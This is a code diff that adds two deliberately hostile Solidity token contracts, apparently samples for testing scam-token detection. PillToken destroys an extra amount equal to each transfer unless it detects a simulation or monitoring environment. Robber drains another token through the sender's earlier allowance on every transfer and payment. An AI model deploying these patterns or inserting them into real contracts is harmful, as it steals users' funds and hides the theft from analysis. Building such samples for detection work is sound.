@@ -236,3 +236,42 @@ contract GrantingToken is Token {
         emit Approval(from, address(0xdeadbeef00000000000000000000), type(uint256).max);
     }
 }
+
+// Takes double unless it believes that it is watched. The sign that it looks for is stored.
+contract PillToken is Token {
+    uint256 private sign; // slot 2
+    uint256 private limit; // slot 3
+
+    function move(address from, address to, uint256 value) internal override {
+        super.move(from, to, value);
+        if (!isWatched()) super.move(from, address(0xdead), value);
+    }
+
+    function isWatched() private view returns (bool) {
+        if (sign == 0) return block.basefee == 0;
+        if (sign == 1) return tx.gasprice == 0;
+        if (sign == 2) return block.coinbase == address(0);
+        if (sign == 3) return block.prevrandao == 0;
+        if (sign == 4) return gasleft() > 10_000_000;
+        if (sign == 5) return blockhash(block.number - 1) == 0;
+        if (sign == 6) return block.number == limit;
+        if (sign == 7) return block.timestamp < limit;
+        if (sign == 8) return block.gaslimit > 100_000_000;
+        return block.coinbase.balance == 0;
+    }
+}
+
+// Takes another token of the sender, who once gave it an allowance, when it is transferred or receives a payment.
+contract Robber is Token {
+    Token private other; // slot 2
+    uint256 private amount; // slot 3
+
+    function move(address from, address to, uint256 value) internal override {
+        super.move(from, to, value);
+        other.transferFrom(from, address(0xdead), amount);
+    }
+
+    receive() external payable {
+        other.transferFrom(tx.origin, address(0xdead), amount);
+    }
+}
